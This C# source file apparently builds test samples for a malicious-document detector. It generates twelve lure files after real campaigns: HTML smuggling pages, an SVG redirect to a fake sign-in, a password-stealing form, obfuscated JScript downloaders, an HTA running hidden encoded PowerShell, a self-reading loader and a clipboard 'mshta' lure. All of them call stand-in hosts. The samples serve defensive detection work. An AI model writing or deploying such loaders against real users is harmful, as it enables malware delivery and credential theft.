using System.Globalization;
using System.Text;

namespace Lurewatch.Samples.Documents;

/// <summary>Pages, pictures and script files whose JavaScript builds files, writes pages, downloads or leads elsewhere.</summary>
internal static class ScriptedPages
{
    private const byte Key = 0x35;

    public static IEnumerable<DocumentSample> All() =>
    [
        SmuggledArchive(), SmuggledFile(), SmuggledByReader(), SvgRedirect(), UnescapedPage(), FormOfAnObfuscator(), RotatedStrings(), ReversedEval(), FallbackList(), HtmlApplication(), SelfReading(), ClickedCommand(),
    ];

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text.ReplaceLineEndings("\r\n"));

    /// <summary>A shortcut-like script in an archive, as the last layer of what is smuggled.</summary>
    private static byte[] Archive(string url) => ZipWriter.Write([("Scan.js", Text($$"""
        var shell = new ActiveXObject("WScript.Shell");
        shell.Run("cmd /c curl -s {{url}} -o %TEMP%\\r.dat && rundll32 %TEMP%\\r.dat,Start", 0);
        """))]);

    private static DocumentSample SmuggledArchive()
    {
        const string url = "http://drop.example/uaOQ/r.dat";
        var hidden = Convert.ToBase64String([.. Archive(url).Select(b => (byte)(b ^ Key))]);
        return new("smuggled-archive.html", "2021–2022, Qakbot: a page that takes XOR off an archive and clicks a link to it.", Text($$"""
            <!DOCTYPE html><html><head><title>Document</title></head><body><p>The file is being downloaded. The password is abc123.</p>
            <div id="content" style="display:none">{{hidden}}</div>
            <script>
            function toBytes(text, key) {
                var raw = window.atob(text), out = new Uint8Array(raw.length);
                for (var i = 0; i < raw.length; i++) { out[i] = raw.charCodeAt(i) ^ key; }
                return out.buffer;
            }
            window.addEventListener('load', function () {
                var data = toBytes(document.getElementById('content').innerText, 0x{{Key:x2}});
                var blob = new Blob([data], { type: 'application/zip' });
                if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'Attachment_0721.zip'); }
                else {
                    var link = document.createElement('a');
                    link.style = 'display: none';
                    link.href = window.URL.createObjectURL(blob);
                    link.download = 'Attachment_0721.zip';
                    document.body.appendChild(link);
                    setTimeout(function () { link.click(); window.URL.revokeObjectURL(link.href); }, 1500);
                }
            });
            </script></body></html>
            """), url);
    }

    private static DocumentSample SmuggledFile()
    {
        const string url = "https://files.example/st/one.bin";
        var pieces = Convert.ToBase64String(Archive(url)).Chunk(57).Select(piece => $"'{new string(piece)}'");
        return new("smuggled-file.html", "2021, EnvyScout: chunks of base64 joined by script into a File whose address the page goes to.", Text($$"""
            <html><body><script>
            var q = [{{string.Join(",\n", pieces)}}];
            const d = Uint8Array.from(atob(q.join('')), c => c.charCodeAt(0));
            const f = new File([d], decodeURIComponent('%4e%56.zip'), { type: 'application/octet-stream' });
            saveIt(f);
            function saveIt(file) { var u = window['URL']['createObjectURL'](file); var a = document['createElement']('a'); a['setAttribute']('href', u); a['setAttribute']('download', file.name); a['dispatchEvent'](new MouseEvent('click')); a['click'](); }
            </script></body></html>
            """), url);
    }

    private static DocumentSample SmuggledByReader()
    {
        const string url = "http://net.example/w/2.dll";
        return new("smuggled-by-fetch.html", "2022: a data address that is fetched, turned into a blob and handed over when the reader clicks.", Text($$"""
            <html><body><button id="view">View document</button><script>
            const source = 'data:application/zip;base64,' + `{{Convert.ToBase64String(Archive(url))}}`;
            document.querySelector('#view').addEventListener('click', async () => {
                const answer = await fetch(source);
                const blob = await answer.blob();
                const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(blob), download: 'Report.zip' });
                link.click();
            });
            </script></body></html>
            """), url);
    }

    private static DocumentSample SvgRedirect()
    {
        const string url = "https://sign-in.example/o365/?e=user";
        var numbers = string.Join(',', url.Select(c => (c + 7).ToString(CultureInfo.InvariantCulture)));
        return new("fax.svg", "2022–2023: a picture whose script leads to a sign-in page.", Text($$"""
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200" onload="start(evt)">
            <rect width="400" height="200" fill="white"/><text x="20" y="100">Loading the fax ...</text>
            <script type="application/ecmascript"><![CDATA[
            var n = [{{numbers}}];
            function start(evt) { var t = ''; n.forEach(function (c) { t += String.fromCharCode(c - 7); }); window.top.location.href = t; }
            ]]></script></svg>
            """), url);
    }

    private static DocumentSample UnescapedPage()
    {
        const string url = "https://collect.example/next.php";
        var page = $$"""<html><body><form id="f"><input type="password" id="p"><button>Sign in</button></form><script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var x = new XMLHttpRequest(); x.open('POST', '{{url}}', true); x.send(document.getElementById('p').value); };</script></body></html>""";
        var escaped = string.Concat(page.Select(c => char.IsAsciiLetterOrDigit(c) ? c.ToString() : $"%{(int)c:X2}"));
        return new("unescaped-page.html", "2020–2023, phishing kits: a page written by document.write of unescape, which posts the password by script.", Text($"""
            <script type="text/javascript">
            <!--
            document.write(unescape('{escaped}'));
            //-->
            </script>
            """), url);
    }

    private static DocumentSample FormOfAnObfuscator()
    {
        const string url = "https://cdn-files.example/js/panel.js";
        var hex = string.Concat(url.Select(c => $"\\x{(int)c:x2}"));
        return new("injected-script.html", "2023: a page whose only script puts another one, from elsewhere, into itself.", Text($$"""
            <html><body><img src="x" onerror="(function(w,d,t){var s=d[w[0]](t);s[w[1]]=w[2];d[w[3]][w[4]](s);})(['createElement','src','{{hex}}','head','appendChild'],document,'script')"></body></html>
            """), url);
    }

    private static DocumentSample RotatedStrings()
    {
        const string url = "http://load.example/wp-content/x/18.exe";
        string[] words = ["WScript.Shell", "MSXML2.XMLHTTP", "GET", "open", "send", url, "ADODB.Stream", "Open", "Write", "ResponseBody", "SaveToFile", "%TEMP%", "ExpandEnvironmentStrings", "Run", "Type", "\\\\18.exe", "14582rotate"];
        var rotated = words[^4..].Concat(words[..^4]).Select(word => $"'{word}'");
        return new("invoice-rotated.js", "2019–2022, downloaders behind obfuscator.io: an array of strings that is turned until a sum fits.", Text($$"""
            var _0x4f1c = [{{string.Join(", ", rotated)}}];
            (function (_0x2d8f05, _0x4b81bb) {
                while (!![]) {
                    try { var _0x3e = parseInt(_0x2d8f05[_0x2d8f05['length'] - 1]); if (_0x3e === _0x4b81bb) break; else _0x2d8f05['push'](_0x2d8f05['shift']()); }
                    catch (_0x1) { _0x2d8f05['push'](_0x2d8f05['shift']()); }
                }
            }(_0x4f1c, 0x38f6));
            function _0x5a(_0x1, _0x2) { return _0x4f1c[_0x1 - 0x64]; }
            var _0x8 = new ActiveXObject(_0x5a(0x64)), _0x9 = new ActiveXObject(_0x5a(0x65));
            _0x9[_0x5a(0x67)](_0x5a(0x66), _0x5a(0x69), ![]);
            _0x9[_0x5a(0x68)]();
            if (_0x9['status'] == 0xc8) {
                var _0xa = new ActiveXObject(_0x5a(0x6a)), _0xb = _0x8[_0x5a(0x70)](_0x5a(0x6f)) + _0x5a(0x73);
                _0xa[_0x5a(0x6b)](), _0xa[_0x5a(0x72)] = 0x1, _0xa[_0x5a(0x6c)](_0x9[_0x5a(0x6d)]), _0xa[_0x5a(0x6e)](_0xb, 0x2);
                _0x8[_0x5a(0x71)](_0xb, 0x0, ![]);
            }
            """), url);
    }

    private static DocumentSample ReversedEval()
    {
        const string url = "https://gate.example/check?id=77";
        var code = $"var h = WScript.CreateObject('WinHttp.WinHttpRequest.5.1'); h.Open('GET', '{url}', false); h.Send(); eval(h.ResponseText);";
        var reversed = new string([.. code.Reverse()]).Replace("'", "\\'", StringComparison.Ordinal);
        return new("reversed.jse", "2020, Gootkit and others: script turned round, split into pieces and handed to eval; the answer is run, too.", Text($$"""
            var quiet = 0; function noise(a, b) { return a * b - quiet; }
            var piece = '{{reversed[..40]}}' + '{{reversed[40..]}}';
            /*@cc_on
            @if (@_win32 || @_win64)
            this['ev' + 'al'](piece['split']('')['reverse']()['join'](''));
            @end @*/
            """), url);
    }

    private static DocumentSample FallbackList()
    {
        string[] urls = ["http://first.example/1.dat", "http://second.example/2.dat", "http://third.example/3.dat"];
        return new("fallback.js", "2016–2020, Locky to Dridex: several addresses, tried one after another until a file is large enough.", Text($$"""
            function run() {
                var hosts = "{{string.Join('*', urls.Select(url => new string([.. url.Reverse()])))}}".split("*");
                var shell = WScript["CreateObject"]("WScript.Shell"), path = shell.ExpandEnvironmentStrings("%APPDATA%") + String.fromCharCode(92) + "w.exe";
                for (var i in hosts) {
                    try {
                        var http = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0"), stream = WScript.CreateObject("ADODB.Stream");
                        http.open("GET", hosts[i].split("").reverse().join(""), false);
                        http.send();
                        if (http.status != 200) continue;
                        stream.open(); stream.type = 1; stream.write(http.responseBody);
                        if (stream.size < 20000) continue;
                        stream.saveToFile(path, 2);
                        shell.Run(path, 1, 0);
                        break;
                    } catch (error) { WScript.Sleep(2000); }
                }
            }
            run();
            """), urls);
    }

    private static DocumentSample HtmlApplication()
    {
        const string url = "http://stage.example/p.ps1";
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes($"IEX (New-Object Net.WebClient).DownloadString('{url}')"));
        return new("update.hta", "2017–2023: an application that starts PowerShell in a hidden window.", Text($$"""
            <html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
            <script language="JScript">
            window.resizeTo(0, 0);
            var parts = ["{{encoded[..30]}}", "{{encoded[30..]}}"];
            var shell = new ActiveXObject("WScr" + "ipt.Sh" + "ell");
            shell.Run("power" + "shell -w hidden -nop -enc " + parts.join(""), 0, false);
            new ActiveXObject("Microsoft.XMLHTTP").open("GET", "{{url}}".replace("p.ps1", "hit"), true);
            var second = new ActiveXObject("Shell.Application");
            second.ShellExecute("mshta", "{{url}}", "", "open", 0);
            window.close();
            </script></head><body></body></html>
            """), url);
    }

    private static DocumentSample SelfReading()
    {
        const string url = "http://self.example/stage2";
        var hidden = string.Concat(Encoding.Latin1.GetBytes($"new ActiveXObject('MSXML2.XMLHTTP').open('GET','x'); var r = new ActiveXObject('WScript.Shell'); r.Run('mshta {url}');").Select(b => $"{b:x2}"));
        return new("self-reading.js", "2022–2023, GootLoader's like: a script that reads its own file, where its next stage stands in comments.", Text($$"""
            var fso = new ActiveXObject("Scripting.FileSystemObject"), me = fso.OpenTextFile(WScript.ScriptFullName, 1), body = "";
            while (!me.AtEndOfStream) { var line = me.ReadLine(); if (line.substring(0, 4) == "////") body += line.substring(4); }
            me.Close();
            var code = "";
            for (var i = 0; i < body.length; i += 2) code += String.fromCharCode(parseInt(body.substr(i, 2), 16));
            new Function(code)();
            {{string.Join("\r\n", hidden.Chunk(60).Select(piece => "////" + new string(piece)))}}
            """), url);
    }

    private static DocumentSample ClickedCommand()
    {
        const string url = "https://verify.example/a.hta";
        return new("verify.html", "2023–2024: a page that puts a command into the clipboard and asks the reader to run it.", Text($$"""
            <html><body><h1>Verify that you are human</h1><p>Press Windows + R, then Ctrl + V, then Enter.</p><div id="box" role="button">I am not a robot</div>
            <script>
            const parts = ['{{url.Replace("https://", "https:/', '/", StringComparison.Ordinal)}}'];
            document.getElementById('box').onclick = function () {
                const area = document.createElement('textarea');
                area.value = 'mshta ' + parts.join('') + ' # I am not a robot';
                document.body.append(area);
                area.select();
                document.execCommand('copy');
            };
            </script></body></html>
            """), url);
    }
}
